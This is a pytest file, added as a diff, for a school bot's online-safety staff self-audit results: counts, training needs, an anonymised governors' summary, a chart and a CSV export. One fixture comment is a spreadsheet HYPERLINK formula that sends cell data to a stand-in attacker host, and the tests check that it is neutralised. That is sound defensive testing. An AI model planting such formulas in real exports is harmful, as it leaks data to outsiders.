@@ -1,0 +1,560 @@
+"""The self-audit's progress and results: counts, needs, comments, the CSV, the governors'
+summary, the chart and the chat cards, on SQLite and PostgreSQL."""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import io
+from datetime import UTC, datetime, timedelta
+from typing import Any
+from zoneinfo import ZoneInfo
+
+import pytest
+from PIL import Image
+
+from bot.app import Bot
+from bot.messages import Card
+from bot.services.audit import chart
+from bot.services.audit.present import (
+    MAX_FIELDS,
+    governors_card,
+    results_messages,
+    status_card,
+)
+from bot.services.audit.questions import NEEDS_STEP, questions, seal_answers
+from bot.services.audit.results import (
+    CSV_COLUMNS,
+    OTHER_TOPIC,
+    Answer,
+    AuditResults,
+    CampaignNotFound,
+    Comment,
+    Progress,
+    QuestionCount,
+    Respondent,
+    TrainingNeeds,
+    campaign_results,
+    campaign_status,
+    governors_summary,
+    percent,
+    results_csv,
+    wants_training,
+)
+from bot.settings import PROJECT_ROOT
+from storage.models import AuditCampaign, AuditMessage, AuditParticipant
+
+ARTIFACTS = PROJECT_ROOT / "test-artifacts"
+START = datetime(2026, 9, 1, 8, 0, tzinfo=UTC)
+
+# The eight questions of the policy's Appendix 1, word for word, with short labels.
+QUESTIONS = [
+    (
+        "knows_lead",
+        "Do you know the name of the person who has lead responsibility for online safety in "
+        "school?",
+        "Knows the online-safety lead",
+    ),
+    (
+        "knows_concern",
+        "Do you know what you must do if a pupil approaches you with a concern or issue?",
+        "Knows what to do with a pupil's concern",
+    ),
+    (
+        "aup_staff",
+        "Are you familiar with the school's acceptable use agreement for staff, volunteers, "
+        "governors and visitors?",
+        "Staff acceptable use agreement",
+    ),
+    (
+        "filtering_systems",
+        "Are you familiar with the filtering and monitoring systems on the school's devices and "
+        "networks?",
+        "Filtering and monitoring systems",
+    ),
+    (
+        "filtering_role",
+        "Do you understand your role and responsibilities in relation to filtering and monitoring?",
+        "Own role in filtering and monitoring",
+    ),
+    (
+        "aup_pupils",
+        "Are you familiar with the school's acceptable use agreement for pupils and parents?",
+        "Pupil and parent acceptable use agreement",
+    ),
+    (
+        "passwords",
+        "Do you regularly change your password for accessing the school's ICT systems?",
+        "Changes passwords regularly",
+    ),
+    (
+        "cyberbullying",
+        "Are you familiar with the school's approach to tackling cyber-bullying?",
+        "Approach to cyber-bullying",
+    ),
+]
+NEEDS_PROMPT = (
+    "Are there any areas of online safety in which you would like training/further training?"
+)
+
+
+def spec() -> dict[str, Any]:
+    steps: list[dict[str, Any]] = []
+    for step_id, prompt, label in QUESTIONS:
+        steps.append({"id": step_id, "kind": "yes_no", "prompt": prompt, "label": label})
+        steps.append(
+            {
+                "id": f"{step_id}_comment",
+                "kind": "text",
+                "prompt": "Any comments?",
+                "label": "Comment",
+                "required": False,
+            }
+        )
+    steps.append(
+        {
+            "id": NEEDS_STEP,
+            "kind": "text",
+            "prompt": NEEDS_PROMPT,
+            "label": "Training needs",
+            "required": False,
+        }
+    )
+    return {"id": "staff_audit", "title": "Online-safety self-audit", "steps": steps}
+
+
+ALL_YES = {step_id: "yes" for step_id, _, _ in QUESTIONS}
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+BOB_COMMENT = "Never been shown the filtering reports."
+BOB_REQUEST = "Sexting and sharing nudes"
+CARA_REQUEST = "+44 phone scams aimed at parents"
+DAN_SECRET = "UNFINISHED-SECRET comment"
+
+# name, email, channel, status, answers, invitation status
+PEOPLE: list[tuple[str, str, str, str, dict[str, str | None] | None, str]] = [
+    (
+        "Alice Able",
+        "alice@school.example",
+        "slack",
+        "finished",
+        {**ALL_YES, "knows_lead_comment": FORMULA, NEEDS_STEP: "None, thanks."},
+        "sent",
+    ),
+    (
+        "Bob Brown",
+        "bob@school.example",
+        "teams",
+        "finished",
+        {
+            **ALL_YES,
+            "filtering_systems": "no",
+            "filtering_systems_comment": BOB_COMMENT,
+            "filtering_role": "no",
+            NEEDS_STEP: BOB_REQUEST,
+        },
+        "sent",
+    ),
+    (
+        "Cara Cole",
+        "cara@school.example",
+        "web",
+        "finished",
+        {**ALL_YES, "knows_concern": None, "passwords": "no", NEEDS_STEP: CARA_REQUEST},
+        "sent",
+    ),
+    (
+        "Dan Dee",
+        "dan@school.example",
+        "slack",
+        "started",
+        {"knows_lead": "no", "knows_lead_comment": DAN_SECRET},
+        "sent",
+    ),
+    ("Eve Evans", "eve@school.example", "teams", "invited", None, "dead"),
+    ("Fay Ford", "fay@school.example", "slack", "invited", None, "pending"),
+]
+NAMES = [p[0] for p in PEOPLE]
+EMAILS = [p[1] for p in PEOPLE]
+
+
+async def seed(bot: Bot, people: list[Any] = PEOPLE, closed: bool = False) -> int:
+    """A campaign, its participants (answers sealed with the bot's cipher) and invitations."""
+    async with bot.router.sessions() as session, session.begin():
+        campaign = AuditCampaign(
+            academic_year="2026-27",
+            flow_id="staff_audit",
+            flow_spec=spec(),
+            started_at=START,
+            started_by="scheduler",
+            closes_at=START + timedelta(days=28),
+            closed_at=START + timedelta(days=28) if closed else None,
+        )
+        session.add(campaign)
+        await session.flush()
+        for k, (name, email, channel, status, answers, invite) in enumerate(people):
+            participant = AuditParticipant(
+                campaign_id=campaign.id,
+                email=email,
+                display_name=name,
+                channel=channel,
+                status=status,
+                answers_enc=None if answers is None else seal_answers(bot.cipher, answers),
+                invited_at=START,
+                started_at=START + timedelta(days=1) if status != "invited" else None,
+                finished_at=START + timedelta(days=2, hours=k) if status == "finished" else None,
+                reminders_sent=0,
+                updated_at=START,
+            )
+            session.add(participant)
+            await session.flush()
+            session.add(
+                AuditMessage(
+                    participant_id=participant.id,
+                    campaign_id=campaign.id,
+                    channel=channel,
+                    recipient_email=email,
+                    kind="invite",
+                    n=0,
+                    status=invite,
+                    attempts=1,
+                    next_attempt_at=START,
+                    created_at=START,
+                    sent_at=START if invite == "sent" else None,
+                )
+            )
+        return campaign.id
+
+
+async def results_of(bot: Bot, campaign_id: int) -> AuditResults:
+    async with bot.router.sessions() as session:
+        return await campaign_results(session, bot.cipher, campaign_id)
+
+
+async def test_status_counts_invitations_starts_and_finishes_per_channel(make_bot):
+    bot = await make_bot()
+    campaign_id = await seed(bot)
+    async with bot.router.sessions() as session:
+        status = await campaign_status(session, campaign_id)
+    assert status.academic_year == "2026-27"
+    assert status.total == Progress(invited=6, sent=4, undelivered=1, started=4, finished=3)
+    assert status.total.not_started == 2
+    assert status.by_channel == {
+        "slack": Progress(invited=3, sent=2, undelivered=0, started=2, finished=1),
+        "teams": Progress(invited=2, sent=1, undelivered=1, started=1, finished=1),
+        "web": Progress(invited=1, sent=1, undelivered=0, started=1, finished=1),
+    }
+    card = status_card(status, tz=ZoneInfo("Europe/London"))
+    fields = {f.label: f.value for f in card.fields}
+    assert fields["Asked"] == "6"
+    assert fields["Invitation delivered"] == "4 (1 could not be delivered)"
+    assert fields["Finished"] == "3 (50%)"
+    assert fields["Slack"] == "3 asked, 2 delivered, 2 started, 1 finished"
+    assert card.footer == "Open until Tue 29 Sep 2026, 09:00"
+
+
+async def test_an_unknown_campaign_is_reported(make_bot):
+    bot = await make_bot()
+    async with bot.router.sessions() as session:
+        with pytest.raises(CampaignNotFound):
+            await campaign_status(session, 404)
+        with pytest.raises(CampaignNotFound):
+            await campaign_results(session, bot.cipher, 404)
+
+
+async def test_results_count_finished_audits_only(make_bot):
+    bot = await make_bot()
+    results = await results_of(bot, await seed(bot))
+    assert (results.invited, results.finished, results.unfinished, results.not_started) == (
+        6,
+        3,
+        1,
+        2,
+    )
+    assert [r.name for r in results.respondents] == ["Alice Able", "Bob Brown", "Cara Cole"]
+    counts = {c.question.step_id: (c.yes, c.no, c.unanswered) for c in results.counts}
+    assert counts == {
+        "knows_lead": (3, 0, 0),  # Dan's unfinished "no" is not counted
+        "knows_concern": (2, 0, 1),
+        "aup_staff": (3, 0, 0),
+        "filtering_systems": (2, 1, 0),
+        "filtering_role": (2, 1, 0),
+        "aup_pupils": (3, 0, 0),
+        "passwords": (2, 1, 0),
+        "cyberbullying": (3, 0, 0),
+    }
+    assert [c.number for c in results.counts] == list(range(1, 9))
+    assert results.needs_prompt == NEEDS_PROMPT
+
+
+async def test_every_no_is_a_training_need_and_written_requests_are_kept(make_bot):
+    bot = await make_bot()
+    results = await results_of(bot, await seed(bot))
+    needs = {n.name: (n.topics, n.request) for n in results.training_needs}
+    assert needs == {
+        "Bob Brown": (
+            ("Filtering and monitoring systems", "Own role in filtering and monitoring"),
+            BOB_REQUEST,
+        ),
+        "Cara Cole": (("Changes passwords regularly",), CARA_REQUEST),
+    }  # Alice answered Yes throughout and wrote "None, thanks.": no need
+    assert [(w.name, w.text) for w in results.written_needs] == [
+        ("Bob Brown", BOB_REQUEST),
+        ("Cara Cole", CARA_REQUEST),
+    ]
+    total_noes = sum(c.no for c in results.counts)
+    assert sum(len(n.topics) for n in results.training_needs) == total_noes
+
+
+async def test_comments_are_listed_with_name_and_question(make_bot):
+    bot = await make_bot()
+    results = await results_of(bot, await seed(bot))
+    assert [(c.name, c.number, c.label, c.text) for c in results.comments] == [
+        ("Alice Able", 1, "Knows the online-safety lead", FORMULA),
+        ("Bob Brown", 4, "Filtering and monitoring systems", BOB_COMMENT),
+    ]
+    assert DAN_SECRET not in repr(results)
+
+
+async def test_csv_has_a_row_per_person_and_question_and_is_injection_safe(make_bot):
+    bot = await make_bot()
+    results = await results_of(bot, await seed(bot))
+    text = results_csv(results, tz=ZoneInfo("Europe/London"))
+    assert text.startswith("\ufeff")  # encoded as UTF-8, Excel reads it as UTF-8
+    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
+    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+    assert tuple(rows[0]) == CSV_COLUMNS
+    body = rows[1:]
+    assert len(body) == 3 * (len(QUESTIONS) + 1)
+    by_person: dict[str, list[list[str]]] = {}
+    for row in body:
+        assert len(row) == len(CSV_COLUMNS)
+        by_person.setdefault(row[0], []).append(row)
+    assert list(by_person) == ["Alice Able", "Bob Brown", "Cara Cole"]
+    for rows_of in by_person.values():
+        assert [r[3] for r in rows_of] == [str(n) for n in range(1, 10)]
+        assert [r[4] for r in rows_of] == [q[1] for q in QUESTIONS] + [NEEDS_PROMPT]
+    alice, bob, cara = by_person.values()
+    assert alice[0][1:3] == ["alice@school.example", "2026-09-03"]
+    assert alice[0][5:] == ["Yes", "'" + FORMULA]  # shown as text, never run
+    assert alice[8][5] == "None, thanks."
+    assert bob[3][5:] == ["No", BOB_COMMENT]
+    assert bob[8][5:] == [BOB_REQUEST, ""]
+    assert cara[1][5] == ""  # not answered
+    assert cara[6][5] == "No"
+    assert cara[8][5] == "'" + CARA_REQUEST
+    for row in body:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert "Dan Dee" not in text and DAN_SECRET not in text
+
+
+def test_csv_guards_every_formula_start():
+    results = _synthetic(finished=1)
+    person = results.respondents[0]
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        hostile = dataclasses.replace(person, name=f"{start}cmd", training_text=f"{start}x")
+        text = results_csv(dataclasses.replace(results, respondents=(hostile,)))
+        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+        assert rows[1][0] == f"'{start}cmd"
+        assert rows[-1][5] == f"'{start}x"
+
+
+async def test_governors_summary_is_anonymous(make_bot):
+    bot = await make_bot()
+    results = await results_of(bot, await seed(bot, closed=True))
+    summary = governors_summary(results)
+    assert (summary.invited, summary.finished, summary.finished_percent) == (6, 3, 50)
+    assert summary.final and summary.unfinished == 1
+    q4 = summary.questions[3]
+    assert (q4.yes, q4.no, q4.yes_percent, q4.no_percent) == (2, 1, 67, 33)
+    assert [(t.topic, t.staff) for t in summary.needs_by_topic] == [
+        (OTHER_TOPIC, 2),
+        ("Filtering and monitoring systems", 1),
+        ("Own role in filtering and monitoring", 1),
+        ("Changes passwords regularly", 1),
+    ]
+    assert summary.staff_with_needs == 2
+    card = governors_card(summary)
+    everything = " ".join(
+        [
+            repr(summary),
+            *summary.lines(),
+            card.title,
+            card.text or "",
+            *(f"{f.label} {f.value}" for f in card.fields),
+            *(link.path for link in card.links),
+        ]
+    )
+    for name in NAMES:
+        assert name not in everything
+        assert name.split()[0] not in everything
+    for email in EMAILS:
+        assert email not in everything
+        assert email.split("@")[0] not in everything
+    for private in (FORMULA, BOB_COMMENT, BOB_REQUEST, CARA_REQUEST, DAN_SECRET, "None, thanks"):
+        assert private not in everything
+    assert "results.csv" not in everything  # the CSV names people: not for governors
+    assert card.links[0].path == f"/api/audit/{results.campaign_id}/chart.png"
+
+
+async def test_chart_is_a_readable_png(make_bot):
+    bot = await make_bot()
+    results = await results_of(bot, await seed(bot, closed=True))
+    png = chart.results_chart_png(results)
+    ARTIFACTS.mkdir(exist_ok=True)
+    (ARTIFACTS / "audit-chart.png").write_bytes(png)
+    image = Image.open(io.BytesIO(png))
+    assert image.format == "PNG"
+    assert image.size == (1200, 80 * len(QUESTIONS) + 200)
+    colours = {colour for _, colour in image.convert("RGB").getcolors(maxcolors=1 << 20) or []}
+    assert len(colours) > 10  # text, bars, hatching, grid: not blank
+    assert chart.YES_FILL in colours and chart.NO_FILL in colours and chart.NO_HATCH in colours
+    assert image.getpixel((0, 0)) == (255, 255, 255)
+
+
+@pytest.mark.parametrize(
+    ("finished", "label"),
+    [
+        (0, "Short"),
+        (40, "A very long label " * 12),
+        (7, "Supercalifragilisticexpialidociousandthensomemoreunbrokentextthatneverstops"),
+    ],
+)
+def test_chart_copes_with_nobody_finished_and_long_labels(finished, label):
+    results = _synthetic(finished=finished, label=label, unanswered=True)
+    image = Image.open(io.BytesIO(chart.results_chart_png(results)))
+    assert image.size == chart.chart_size(results)
+    assert len(image.convert("RGB").getcolors(maxcolors=1 << 20) or []) > 5
+
+
+async def test_results_messages_for_the_dsl(make_bot):
+    bot = await make_bot()
+    campaign_id = await seed(bot)
+    results = await results_of(bot, campaign_id)
+    messages = results_messages(results)
+    assert all(isinstance(m, Card) for m in messages)
+    summary, needs, comments = messages
+    assert isinstance(summary, Card) and isinstance(needs, Card) and isinstance(comments, Card)
+    assert summary.title == "Staff online-safety self-audit 2026-27: results so far"
+    assert "3 of 6 staff finished (50%)" in (summary.text or "")
+    assert "1 started but had not finished" in (summary.text or "")
+    fields = {f.label: f.value for f in summary.fields}
+    assert fields["4. Filtering and monitoring systems"] == "Yes 2 (67%) · No 1 (33%)"
+    assert fields["2. Knows what to do with a pupil's concern"].endswith("not answered 1")
+    assert [link.path for link in summary.links] == [
+        f"/api/audit/{campaign_id}/results.csv",
+        f"/api/audit/{campaign_id}/chart.png",
+    ]
+    needed = {f.label: f.value for f in needs.fields}
+    assert needed == {
+        "Bob Brown": "• Filtering and monitoring systems\n• Own role in filtering and monitoring\n"
+        f"Asked for: {BOB_REQUEST}",
+        "Cara Cole": f"• Changes passwords regularly\nAsked for: {CARA_REQUEST}",
+    }
+    assert [f.label for f in comments.fields] == [
+        "Alice Able, question 1 (Knows the online-safety lead)",
+        "Bob Brown, question 4 (Filtering and monitoring systems)",
+    ]
+    assert DAN_SECRET not in repr(messages)
+
+
+def test_long_lists_are_split_over_several_cards():
+    results = _synthetic(finished=45, comments=True)
+    messages = results_messages(results)
+    needs = [m for m in messages if isinstance(m, Card) and m.card_id.startswith("audit-needs")]
+    comments = [m for m in messages if isinstance(m, Card) and m.card_id.startswith("audit-com")]
+    assert len(needs) == 3 and len(comments) >= 3
+    assert needs[0].title == "Training needs (1 of 3)"
+    assert len({c.card_id for c in needs}) == 3
+    for card in needs + comments:
+        assert len(card.fields) <= MAX_FIELDS
+    assert sum(len(c.fields) for c in needs) == len(results.training_needs) == 45
+
+
+def test_nothing_to_list_says_so():
+    results = _synthetic(finished=0)
+    _, needs, comments = results_messages(results)
+    assert isinstance(needs, Card) and needs.text == "Nobody answered No or asked for training."
+    assert isinstance(comments, Card) and comments.text == "Nobody added a comment."
+
+
+def test_a_none_is_not_a_training_request():
+    for text in (None, "", "  ", "None", "no.", "N/A", "nil", "No thank you!", "Not at present"):
+        assert not wants_training(text), text
+    for text in ("No idea about TikTok", "AI chatbots", "none of the filtering stuff, please"):
+        assert wants_training(text), text
+
+
+def test_percentages_round_half_up():
+    assert [percent(1, 8), percent(1, 3), percent(2, 3), percent(1, 200), percent(0, 0)] == [
+        13,
+        33,
+        67,
+        1,
+        0,
+    ]
+
+
+def _synthetic(
+    *, finished: int, label: str | None = None, unanswered: bool = False, comments: bool = False
+) -> AuditResults:
+    """Results built without a database: `finished` people, a pattern of answers."""
+    asked = questions(spec())
+    if label is not None:
+        asked[0] = dataclasses.replace(asked[0], label=label)
+    people = []
+    for k in range(finished):
+        answers = tuple(
+            Answer(
+                number=n,
+                question=q,
+                value=None
+                if unanswered and (k + n) % 11 == 0
+                else ("no" if (k + n) % 3 else "yes"),
+                comment=f"Comment {k}-{n} " + "words " * 40 if comments else None,
+            )
+            for n, q in enumerate(asked, start=1)
+        )
+        people.append(
+            Respondent(
+                name=f"Person {k:02}",
+                email=f"p{k}@school.example",
+                channel="web",
+                finished_at=START,
+                answers=answers,
+                training_text=f"Topic {k}",
+            )
+        )
+    counts = tuple(
+        QuestionCount(
+            number=n,
+            question=q,
+            yes=sum(1 for p in people if p.answers[n - 1].value == "yes"),
+            no=sum(1 for p in people if p.answers[n - 1].value == "no"),
+            unanswered=sum(1 for p in people if p.answers[n - 1].value is None),
+        )
+        for n, q in enumerate(asked, start=1)
+    )
+    return AuditResults(
+        campaign_id=7,
+        academic_year="2026-27",
+        closed_at=None,
+        questions=tuple(asked),
+        needs_prompt=NEEDS_PROMPT,
+        invited=finished + 5,
+        finished=finished,
+        unfinished=2,
+        not_started=3,
+        counts=counts,
+        respondents=tuple(people),
+        comments=tuple(
+            Comment(p.name, p.email, a.number, a.question.label, a.comment)
+            for p in people
+            for a in p.answers
+            if a.comment
+        ),
+        training_needs=tuple(
+            TrainingNeeds(p.name, p.email, p.needs, p.training_request) for p in people
+        ),
+        written_needs=(),
+    )
